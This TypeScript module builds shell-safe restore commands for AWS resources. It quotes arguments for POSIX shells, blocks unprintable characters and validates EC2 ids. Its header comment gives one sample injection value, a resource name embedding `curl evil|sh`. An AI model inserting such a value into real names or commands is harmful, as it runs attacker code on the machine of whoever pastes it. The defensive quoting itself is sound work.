/**
 * Restore commands an engineer pastes into a shell at 3 a.m.: every argument is quoted by one
 * function, whatever it holds, so no name from a member account (an Auto Scaling group may be
 * named `web;$(curl evil|sh)`: ASCII 33-126 but ':' is allowed) is ever run. The block is
 * labelled POSIX shell (sh, bash, zsh), whose single quotes take everything literally but a
 * single quote, which is closed, escaped and reopened.
 */

/** The first line of every restore block. */
export const RESTORE_HEADER = '# POSIX shell (sh, bash, zsh): each argument is quoted; paste as is';

/** A word needs no quotes when it holds only characters no POSIX shell treats specially. */
const PLAIN = /^[A-Za-z0-9_./:=,+@%-]+$/;

/** One argument, quoted for a POSIX shell when it needs it. */
export function shellQuote(value: string): string {
  return PLAIN.test(value) ? value : `'${value.replace(/'/g, `'\\''`)}'`;
}

/**
 * One command line: the program and its arguments, each quoted. An argument with a character
 * outside printable ASCII (a newline would split the command over lines a reader copies one by
 * one; U+202E would show it reversed) cannot be printed safely: the line becomes a comment that
 * says so. AWS allows no such character in the ids and names we print (Auto Scaling group names
 * are ASCII 33-126 but ':'); JSON arguments are printed with asciiJson.
 */
export function commandLine(argv: readonly string[]): string {
  const unprintable = argv.find((arg) => /[^\x20-\x7e]/.test(arg));
  if (unprintable !== undefined) return commentLine(`not printed: an argument holds characters that cannot be pasted safely (${unprintable})`);
  return argv.map(shellQuote).join(' ');
}

/** A comment line: one line, nothing the shell could run even if the `#` were lost. */
export function commentLine(text: string): string {
  return `# ${text.replace(/[\r\n\u2028\u2029]+/g, ' ').replace(/[^\x20-\x7e]/g, '?')}`;
}

/** EC2 resource ids: a prefix and 8 or 17 hex digits (EC2 User Guide, "Resource IDs"). */
const EC2_ID = /^(i|sg|eni|vol|snap|vpc|subnet|sgr)-([0-9a-f]{8}|[0-9a-f]{17})$/;
export const isEc2Id = (prefix: string, value: string): boolean => EC2_ID.test(value) && value.startsWith(`${prefix}-`);

/** JSON with every non-ASCII character escaped: safe to paste, nothing invisible (U+202E) inside. */
export function asciiJson(value: unknown): string {
  return JSON.stringify(value).replace(/[\u007f-\uffff]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`);
}
